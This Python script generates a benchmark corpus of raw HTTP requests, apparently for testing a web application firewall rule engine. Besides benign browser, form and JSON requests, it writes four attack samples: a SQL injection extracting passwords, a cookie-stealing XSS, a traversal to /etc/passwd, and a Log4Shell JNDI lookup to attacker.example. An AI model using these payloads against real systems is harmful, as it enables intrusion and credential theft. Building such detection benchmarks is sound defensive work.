#!/usr/bin/env python3
"""Writes the fixed benchmark corpus into bench/corpus/ as raw HTTP/1.1 requests.

The same files feed the engine microbenchmarks (crates/engine/benches) and the load
runs of scripts/bench (wrk sends them verbatim), so every layer measures the same bytes.
The output is deterministic; rerun this script only to change the corpus.
"""

import json
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "corpus")

BROWSER = [
    ("Host", "localhost"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", "http://localhost/products"),
    ("Connection", "keep-alive"),
    ("Cookie", "session=6f1c2a9b4e7d0a13; theme=dark; consent=yes"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Sec-Fetch-Dest", "document"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-Site", "same-origin"),
]


def request(method, target, headers, body=b""):
    lines = [f"{method} {target} HTTP/1.1"]
    for k, v in headers:
        lines.append(f"{k}: {v}")
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    head = ("\r\n".join(lines) + "\r\n\r\n").encode()
    return head + body


def form_body(size):
    """A urlencoded profile form of exactly `size` bytes."""
    fields = [
        ("first_name", "Alice"),
        ("last_name", "Smith"),
        ("email", "alice.smith@example.com"),
        ("phone", "+44 20 7946 0958"),
        ("street", "221B Baker Street"),
        ("city", "London"),
        ("postcode", "NW1 6XE"),
        ("country", "GB"),
        ("newsletter", "on"),
        ("csrf_token", "c2b7f0e4a9d84e21b6f3c0a5d7e91f42"),
    ]
    text = (
        "Hello, I would like to update my delivery preferences. Please leave parcels "
        "with the neighbour at number 12 if nobody is at home during the day. Thanks "
        "for the quick help last week, the replacement arrived in good condition. "
    )
    body = urllib.parse.urlencode(fields)
    # Fill the comment so the whole body is exactly `size` bytes.
    prefix = body + "&comment="
    comment = ""
    i = 0
    while len(prefix + urllib.parse.quote_plus(comment)) < size:
        comment += text[i % len(text)]
        i += 1
    body = prefix + urllib.parse.quote_plus(comment)
    while len(body) > size:
        comment = comment[:-1]
        body = prefix + urllib.parse.quote_plus(comment)
    body = body + "x" * (size - len(body))
    assert len(body) == size
    return body.encode()


def json_body(size):
    """A JSON order of exactly `size` bytes: a few dozen line items with free-text
    descriptions (a few hundred leaf values, under SecArgumentsLimit 1000)."""
    text = ("A hands-on guide to building reliable services: memory layout, concurrency, "
            "testing and profiling, with worked examples and exercises for each chapter. ")
    items = []
    doc = {"customer": {"id": 48213, "name": "Alice Smith", "email": "alice.smith@example.com"},
           "currency": "GBP", "items": items, "note": ""}
    n = 0
    while len(json.dumps(doc, separators=(",", ":"))) < size - 700:
        items.append({
            "sku": f"BK-{10000 + n}",
            "title": f"Practical Systems Programming, volume {n % 7 + 1}",
            "description": (text * 3)[(n * 17) % len(text):][:320],
            "quantity": n % 3 + 1,
            "unit_price": round(12.5 + (n % 11) * 1.25, 2),
            "gift": n % 5 == 0,
        })
        n += 1
    base = len(json.dumps(doc, separators=(",", ":")))
    doc["note"] = ("Please deliver in the morning, the side gate is open. " * 20)[: size - base]
    out = json.dumps(doc, separators=(",", ":")).encode()
    assert len(out) == size, (len(out), size)
    return out


def main():
    os.makedirs(OUT, exist_ok=True)
    files = {}
    files["get.http"] = request(
        "GET", "/products/list?category=books&page=2&sort=price&q=rust+programming", BROWSER)
    form = form_body(2048)
    files["form.http"] = request(
        "POST", "/account/profile",
        BROWSER + [("Content-Type", "application/x-www-form-urlencoded")], form)
    js = json_body(20480)
    api = [h for h in BROWSER if h[0] not in ("Accept", "Upgrade-Insecure-Requests", "Sec-Fetch-Dest", "Sec-Fetch-Mode")]
    files["json.http"] = request(
        "POST", "/api/orders", api + [("Accept", "application/json"), ("Content-Type", "application/json")], js)
    files["attack-sqli.http"] = request(
        "GET", "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20", BROWSER)
    files["attack-xss.http"] = request(
        "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", BROWSER)
    files["attack-traversal.http"] = request(
        "GET", "/download?file=../../../../etc/passwd", BROWSER)
    log4 = [(k, v) for k, v in BROWSER if k != "User-Agent"] + [
        ("User-Agent", "${jndi:ldap://attacker.example/a}")]
    # In an argument (which CRS 3.3.4 catches) and in a header (which only CRS v4 does).
    files["attack-log4shell.http"] = request(
        "GET", "/lookup?user=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", log4)
    for name, data in files.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
